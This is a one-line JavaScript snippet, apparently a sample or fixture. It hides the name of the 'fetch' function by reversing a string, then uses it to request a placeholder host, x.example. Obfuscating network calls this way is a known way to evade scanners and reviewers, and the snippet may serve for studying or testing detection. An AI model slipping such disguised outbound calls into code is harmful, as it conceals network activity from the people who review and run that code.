globalThis['hctef'.split('').reverse().join('')]('https://x.example');
